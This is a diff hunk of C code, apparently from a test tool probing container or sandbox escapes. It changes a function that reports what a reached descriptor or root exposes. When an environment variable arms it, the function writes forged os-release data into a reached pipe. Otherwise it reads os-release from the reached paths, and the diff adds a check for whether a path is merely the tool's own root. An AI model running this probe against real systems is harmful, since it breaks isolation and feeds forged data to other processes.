@@ -45,25 +45,32 @@ static void sample(const char *path, char *out, size_t cap) {
 
 /* What a reached descriptor or root gives an attacker. */
 static void use(const char *path, const char *link, char *info, size_t cap) {
-  struct stat st;
+  struct stat st = {0};
   const char *armed = getenv("STEALER_ARMED");
   if (strncmp(link, "pipe:", 5) == 0 && !(armed && strcmp(armed, "1") == 0)) {
     snprintf(info, cap, "pipe-forged=unarmed");
-  } else if (strncmp(link, "pipe:", 5) == 0) {
+    return;
+  }
+  if (strncmp(link, "pipe:", 5) == 0) {
     static const char forged[] = "os-release-id=forged\nos-release-version-id=0\ndone\n";
     int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
     ssize_t n = fd < 0 ? -1 : write(fd, forged, sizeof forged - 1);
     if (fd >= 0) close(fd);
     snprintf(info, cap, "pipe-forged=%s", n > 0 ? "yes" : "no");
-  } else if (stat(path, &st) == 0 && S_ISDIR(st.st_mode)) {
-    char osr[PATH_MAX + 32], s[128];
+    return;
+  }
+  /* here=yes: the very file its own root has at that path, i.e. nothing it did not have already. */
+  struct stat mine = {0};
+  int here = stat(path, &st) == 0 && stat(link, &mine) == 0 && st.st_dev == mine.st_dev && st.st_ino == mine.st_ino;
+  char s[128];
+  if (S_ISDIR(st.st_mode)) {
+    char osr[PATH_MAX + 32];
     snprintf(osr, sizeof osr, "%s/etc/os-release", path);
     sample(osr, s, sizeof s);
-    snprintf(info, cap, "dir=%lu:%lu os-release=%s", (unsigned long)st.st_dev, (unsigned long)st.st_ino, s);
+    snprintf(info, cap, "here=%s dir=%lu:%lu os-release=%s", here ? "yes" : "no", (unsigned long)st.st_dev, (unsigned long)st.st_ino, s);
   } else {
-    char s[128];
     sample(path, s, sizeof s);
-    snprintf(info, cap, "file=%s", s);
+    snprintf(info, cap, "here=%s file=%s", here ? "yes" : "no", s);
   }
 }
 
